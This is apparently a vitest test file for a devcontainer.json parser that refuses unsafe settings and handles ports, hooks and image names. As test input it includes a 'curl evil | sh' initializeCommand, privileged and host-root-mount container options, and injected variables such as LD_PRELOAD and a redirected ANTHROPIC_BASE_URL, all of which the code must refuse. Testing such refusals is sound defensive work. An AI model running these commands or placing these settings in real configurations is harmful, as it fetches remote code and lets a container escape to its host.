// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a devcontainer.json has placeholders of its own
import { describe, expect, it } from 'vitest';
import { parseDevcontainer } from '../../../shared/provision/devcontainer-file.ts';
import { devcontainerWords, planDevcontainer, withContainerEnv } from '../../../shared/provision/devcontainer-plan.ts';
import { baseNameOf } from '../../../shared/provision/own-image.ts';

const path = '.devcontainer/devcontainer.json';
const folder = '/home/ada/src/shop';

function plan(value: object | string, dockerfile: string | null = null) {
	const text = typeof value === 'string' ? value : JSON.stringify(value);
	return planDevcontainer({
		file: parseDevcontainer(text, path),
		text,
		path,
		folder,
		owner: { name: 'ada', uid: 1500 },
		dockerfile,
	});
}
const leftIn = (value: object): readonly string[] => plan(value).left.map(({ what, why }) => `${what}: ${why}`);

describe('a devcontainer.json', () => {
	it('is read with comments, trailing commas and a mark of its byte order', () => {
		const text = `\uFEFF// for "editors"
{
	/* of /* the shop */
	"name": "shop // not a comment, /* nor this",
	"containerEnv": { "A": "a \\" // b ,}", "B": "c", }, // more
	"forwardPorts": [3000, 8080, /* last */ ],
}`;
		expect(plan(text)).toMatchObject({ env: { A: 'a " // b ,}', B: 'c' }, left: [] });
		expect(plan(text).ports.map(({ inside }) => inside)).toEqual([3000, 8080]);
	});

	const bad: readonly (readonly [string, RegExp])[] = [
		['', /cannot be used: /],
		['{"a": ]', /Unexpected token '\]'/],
		['{\n"a": 1,\n"b" 2}', /line 3/],
		['[]', /expected/],
		['{"forwardPorts": [0]}', /forwardPorts\.0: expected a port from 1 to 65535/],
		['{"forwardPorts": [3000, {}]}', /forwardPorts\.1/],
		['{"containerEnv": {"A B": "c"}}', /containerEnv/],
		['{"remoteEnv": {"A": "x\\ny"}}', /remoteEnv\.A: expected one line/],
		['{"postCreateCommand": 7}', /postCreateCommand: expected a command/],
		['{"postCreateCommand": ["a", 7]}', /postCreateCommand/],
		[`{"a": "${'x'.repeat(70_000)}"}`, /has 70009 characters; expected at most 65536/],
		['{"a": "never ends', /cannot be used: /],
		['{"a": /* never ends', /cannot be used: /],
	];
	it.each(bad)('is refused with its name and what is wrong: %#', (text, words) => {
		expect(() => parseDevcontainer(text, path)).toThrow(words);
		expect(() => parseDevcontainer(text, path)).toThrow(/^\.devcontainer\/devcontainer\.json /);
	});

	it('is read in a moment, however many quotes and comments have no end', () => {
		const begun = performance.now();
		for (const text of ['"\\"'.repeat(20_000), '/*'.repeat(30_000), `"${'\\"'.repeat(30_000)}`, ', '.repeat(30_000)]) {
			expect(() => parseDevcontainer(text, path)).toThrow();
		}
		expect(performance.now() - begun).toBeLessThan(2_000);
	});

	it('[I13] gets nothing outside its container, and says so', () => {
		const wanted = {
			initializeCommand: 'curl evil | sh',
			runArgs: ['--privileged'],
			mounts: ['source=/,target=/host,type=bind'],
			workspaceMount: 'source=/,target=/x,type=bind',
			privileged: true,
			capAdd: ['SYS_ADMIN'],
			securityOpt: ['seccomp=unconfined'],
			dockerComposeFile: 'compose.yaml',
		};
		const made = plan(wanted);
		expect(made).toMatchObject({ image: null, env: {}, remoteEnv: {}, ports: [], hooks: [], taken: [] });
		expect(made.left.map(({ what }) => what)).toEqual(Object.keys(wanted));
		for (const { why } of made.left) expect(why).toMatch(/^refused: /);
		expect(devcontainerWords(made, null)).toMatch(/^\S+: nothing of it counts; not taken: initializeCommand \(refused/);
	});

	it('says what it does not take otherwise, and nothing of what is not asked', () => {
		expect(leftIn({ features: { a: {} }, remoteUser: 'root', postAttachCommand: 'x', strange: 1 })).toEqual([
			expect.stringMatching(/^features: they install as root/),
			'remoteUser: everything inside runs as you, ada (1500), who owns the source; what needs root belongs in its Dockerfile',
			expect.stringMatching(/^postAttachCommand: /),
			'strange: it is not known here',
		]);
		expect(leftIn({ privileged: false, capAdd: [], features: {}, customizations: { vscode: {} }, name: 'x' })).toEqual(
			[],
		);
	});

	it('[I13] gets no variable of this machine, and none that the container depends on', () => {
		const made = plan({
			containerEnv: {
				TOKEN: '${localEnv:HOME}',
				WITH: '${localEnv:X:y:z}',
				NODE_ENV: 'a',
				GIT_SSH_COMMAND: 'x',
				HOME: '/',
				PATH: '/x',
				LD_PRELOAD: '/x.so',
				ANTHROPIC_BASE_URL: 'https://elsewhere.example',
			},
			remoteEnv: { NODE_OPTIONS: '--x', GANGLINE_HOME: '/x', NONE: null, AT: '${containerWorkspaceFolder}/bin' },
		});
		expect(made.env).toEqual({ TOKEN: '', WITH: 'y:z', NODE_ENV: 'a' });
		expect(made.remoteEnv).toEqual({ NODE_OPTIONS: '--x', AT: `${folder}/bin` });
		expect(made.left.map(({ what }) => what).sort()).toEqual(
			[
				'containerEnv ANTHROPIC_BASE_URL',
				'containerEnv GIT_SSH_COMMAND',
				'containerEnv HOME',
				'containerEnv LD_PRELOAD',
				'containerEnv PATH',
				'localEnv HOME',
				'localEnv X',
			].concat('remoteEnv GANGLINE_HOME'),
		);
	});

	it('takes variables of the container where these are known', () => {
		const filled = withContainerEnv({ PATH: '/x:${containerEnv:PATH}', B: '${containerEnv:NONE:b}' }, { PATH: '/bin' });
		expect(filled).toEqual({ PATH: '/x:/bin', B: 'b' });
	});

	it('names ports in all its forms, each once, with its label; none of another host and not that of sshd', () => {
		const made = plan({
			forwardPorts: [3000, '3000', 'db:5432', 2222],
			appPort: ['8000:3001', '127.0.0.1:3002', 'x'],
			portsAttributes: { '3000': { label: 'shop' } },
		});
		expect(made.ports).toEqual([
			{ inside: 3000, label: 'shop' },
			{ inside: 3001, label: null },
			{ inside: 3002, label: null },
		]);
		expect(made.left.map(({ what }) => what)).toEqual(['port db:5432', 'port 2222', 'port x']);
		expect(plan({ appPort: 4000 }).ports).toEqual([{ inside: 4000, label: null }]);
	});

	it('names hooks in all their forms, in the order in which they run', () => {
		const made = plan({
			postStartCommand: { web: 'npm start', db: ['redis-server', '--port', '1'], none: '' },
			onCreateCommand: 'echo "$HOME" && echo ${localWorkspaceFolderBasename}',
			postCreateCommand: ['npm', 'ci'],
			updateContentCommand: '',
		});
		expect(made.hooks).toEqual([
			{ name: 'onCreate', commands: [{ name: 'onCreate', argv: ['sh', '-c', 'echo "$HOME" && echo shop'] }] },
			{ name: 'postCreate', commands: [{ name: 'postCreate', argv: ['npm', 'ci'] }] },
			{
				name: 'postStart',
				commands: [
					{ name: 'web', argv: ['sh', '-c', 'npm start'] },
					{ name: 'db', argv: ['redis-server', '--port', '1'] },
				],
			},
		]);
		expect(made.taken).toEqual(['onCreateCommand', 'postCreateCommand', 'postStartCommand']);
	});
});

describe('the image that it names', () => {
	it('counts when a person has named the hash of that very file', () => {
		const made = plan({ image: 'debian:bookworm' });
		expect(made.image).toEqual({ kind: 'name', name: 'debian:bookworm' });
		expect(devcontainerWords(made, null)).toContain(`--devcontainer ${made.hash}`);
		expect(devcontainerWords(made, made.hash)).toMatch(/taken its image$/);
		expect(plan({ image: 'debian:bookworm ' }).hash).not.toBe(made.hash);
	});

	it('is none where its name could be something else', () => {
		for (const image of ['', '--x', 'a b', '/a', 'a:b:c@x']) expect(plan({ image }).image, image).toBeNull();
		for (const image of ['mcr.example.org:5000/a/b:1.2', `a@sha256:${'0'.repeat(64)}`]) {
			expect(plan({ image }).image).toEqual({ kind: 'name', name: image });
		}
	});

	it('is fetched in one version', () => {
		expect(['a', 'a:1', 'h:5000/a', 'h:5000/a:1', 'a@sha256:0'].map(baseNameOf)).toEqual([
			'a:latest',
			'a:1',
			'h:5000/a:latest',
			'h:5000/a:1',
			'a@sha256:0',
		]);
	});

	it('is built of a Dockerfile that needs no file, and of no other', () => {
		const build = { dockerfile: 'Dockerfile', args: { V: '${localWorkspaceFolderBasename}' }, target: 'dev' };
		const dockerfile = 'FROM a AS b\nFROM c\nCOPY --from=b /x /x\nRUN true\n';
		const made = plan({ build }, dockerfile);
		expect(made.image).toEqual({ kind: 'build', dockerfile, args: { V: 'shop' }, target: 'dev' });
		expect(plan({ build }, `${dockerfile}#`).hash).not.toBe(made.hash);
		expect(plan({ build }, null).left).toEqual([
			{ what: 'the Dockerfile Dockerfile', why: 'there is no such file in the source' },
		]);
		const copying = plan({ dockerFile: 'a' }, 'FROM a\n  copy . /x\n');
		expect(copying).toMatchObject({ image: null, left: [{ why: expect.stringMatching(/^it copies files/) }] });
	});
});
